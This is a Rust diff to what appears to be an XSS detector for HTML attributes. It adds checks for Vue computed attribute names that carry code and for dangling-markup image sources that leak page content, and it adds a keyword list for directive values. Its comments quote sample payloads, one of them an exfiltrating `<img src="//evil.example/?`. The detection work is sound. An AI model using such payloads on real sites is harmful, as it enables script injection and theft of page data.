@@ -146,8 +146,23 @@ fn meta(of: &dyn Fn(&[u8]) -> Option<Vec<u8>>, place: &Range<usize>, seen: &mut 
 fn one(tag: &[u8], attribute: &Attribute<'_>, place: &Range<usize>, seen: &mut Seen) {
     let (name, value) = (attribute.name, attribute.value);
     let shown = || (ascii::shown(tag), ascii::shown(name));
+    // Vue computes names: `@[_b.constructor`alert(1)`()]`.
+    if name.contains(&b'[') && matches!(script::read(name), Code::Browser(_)) {
+        seen.note(Confidence::STRONG, place.clone(), || {
+            format!("the tag <{}> with code in an attribute's name", shown().0)
+        });
+    }
     if value.is_empty() {
         return;
+    }
+    // `<img src="//evil.example/?`: the page up to the next quote is sent along.
+    if attribute.open
+        && is_elsewhere(value)
+        && value.trim_ascii_end().last().is_some_and(|byte| matches!(byte, b'?' | b'=' | b'&'))
+    {
+        seen.note(Confidence::LIKELY, place.clone(), || {
+            format!("the tag <{}> whose {} takes in the page that follows", shown().0, shown().1)
+        });
     }
     if handlers::may_be_event(name) {
         if let Some((confidence, code)) = handlers::judge(name, value, attribute.quoted) {
@@ -165,7 +180,13 @@ fn one(tag: &[u8], attribute: &Attribute<'_>, place: &Range<usize>, seen: &mut S
     }
     if is_directive(name) {
         let value = resolved(value);
-        let code = script::read(&value);
+        let named = ["constructor", "alert", "prompt", "confirm", "eval"]
+            .iter()
+            .any(|word| ascii::find(&value, word.as_bytes()).is_some());
+        let code = match script::read(&value) {
+            Code::Own(what) if named => Code::Browser(what),
+            code => code,
+        };
         if let Code::Browser(what) = code {
             seen.note(Confidence::STRONG, place.clone(), || {
                 let (tag, name) = shown();
